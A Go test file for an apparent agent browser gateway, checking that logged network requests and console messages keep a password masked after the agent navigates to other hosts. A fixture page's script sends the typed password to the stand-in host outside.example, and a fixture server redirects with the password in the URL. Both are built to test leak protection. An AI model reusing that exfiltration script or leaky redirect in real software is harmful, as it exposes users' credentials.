package main

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// networkLogsManifest declares the log commands and the network page's
// password (on 127.0.0.1), with 127.0.0.3 and 127.0.0.4 in scope too.
var networkLogsManifest = strings.Replace(networkManifest(`[browser.commands.network_log]
[browser.commands.console_messages]`),
	`allowed_domains = ["127.0.0.1"]
allow_private_cidrs = ["127.0.0.1/32"]`,
	`allowed_domains = ["127.0.0.1", "127.0.0.3", "127.0.0.4"]
allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32", "127.0.0.4/32"]`, 1) + networkSecret

// A request the secret binding refused is kept in the tab's log with its
// URL and post data, and a console message the secret's page logged with
// the value stays in the tab's console log. Once the agent has navigated
// the tab to another in-scope host (off the secret's domains), the log
// replies (network_requests, network_log, network_request and
// console_messages) still mask the value: each entry is masked for the
// secrets of the document that made it and those the binding held then,
// not only for the page the tab is on now.
func TestNetworkLogMasksASecretSentOffDomainAfterTheAgentLeaves(t *testing.T) {
	t.Parallel()
	const password = "Rev1-S3cret-9931"
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
	mux := http.NewServeMux()
	mux.HandleFunc("/leak/page", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Leak</title>
<input type=password id=pw aria-label=Password>
<button id=away onclick="away()">Away</button>
<script>
async function away() {
  const v = document.getElementById('pw').value;
  console.log('typed pw=' + v);
  try { await fetch('http://outside.example/away?pw=' + v, {method: 'POST', body: 'pw=' + v}); } catch (e) {}
  const p = document.createElement('p'); p.id = 'awaydone'; p.textContent = 'away done'; document.body.append(p);
}
</script>`)
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	other, stop2, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Other</title><p>Another site.</p>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop2)
	call := allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": site + "/leak/page"})
	call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
	call("click", map[string]any{"selector": "#away"})
	call("wait_for", map[string]any{"selector": "#awaydone"})
	list := call("network_requests", nil)
	away := requestID(list, "outside.example")
	if away == "" {
		t.Fatalf("no refused request listed:\n%s", list)
	}
	if !strings.Contains(list, "REFUSED") {
		t.Fatalf("the request off the secret's domains is not marked refused:\n%s", list)
	}
	if strings.Contains(list, password) {
		t.Errorf("network_requests on the secret's page shows the password:\n%s", list)
	}
	// The agent's own navigation to another allowed host.
	call("navigate", map[string]any{"url": other + "/"})
	if out := call("network_requests", nil); strings.Contains(out, password) || !strings.Contains(out, "outside.example") {
		t.Errorf("network_requests after leaving shows the password, or no longer lists the request:\n%s", out)
	}
	if out := call("network_log", nil); strings.Contains(out, password) || !strings.Contains(out, "outside.example") {
		t.Errorf("network_log after leaving shows the password, or no longer lists the request:\n%s", out)
	}
	detail := call("network_request", map[string]any{"id": away})
	if strings.Contains(detail, password) || !strings.Contains(detail, "request body") {
		t.Errorf("network_request %s after leaving shows the password, or no request body:\n%s", away, detail)
	}
	if out := call("console_messages", nil); strings.Contains(out, password) || !strings.Contains(out, "typed pw=") {
		t.Errorf("console_messages after leaving shows the password, or not the page's message:\n%s", out)
	}
}

// A judged sign-in on the secret's site whose server redirects to another
// host of the scope with the value in the URL (the hop is the server's,
// let through): after the agent has navigated to a third host, the log
// replies still mask the hop's URL, sent while the binding held the secret
// to a host the value was carried to.
func TestNetworkLogMasksASecretARedirectCarriedAfterTheAgentLeaves(t *testing.T) {
	t.Parallel()
	const password = "Rev1-Hop-S3cret-5524"
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
	app, stopApp, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>App</title><p>Signed in.</p>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopApp)
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/login" && r.Method == http.MethodPost {
			http.Redirect(w, r, app+"/welcome?pw="+url.QueryEscape(r.FormValue("pw")), http.StatusSeeOther)
			return
		}
		fmt.Fprint(w, `<!doctype html><title>Sign in</title><form method=post action="/login"><input type=password id=pw name=pw aria-label=Password><button id=go>Sign in</button></form>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	third, stop3, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Third</title><p>Elsewhere.</p>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop3)
	call := allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": site + "/"})
	call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
	if out := call("submit_form", map[string]any{"selector": "#go"}); !strings.Contains(out, `title="App"`) {
		t.Fatalf("the sign-in did not reach the application on the other host:\n%s", out)
	}
	call("navigate", map[string]any{"url": third + "/"})
	for _, cmd := range []string{"network_requests", "network_log"} {
		if out := call(cmd, nil); strings.Contains(out, password) || !strings.Contains(out, "/welcome?pw=") {
			t.Errorf("%s after leaving shows the password, or does not list the redirect's hop:\n%s", cmd, out)
		}
	}
}
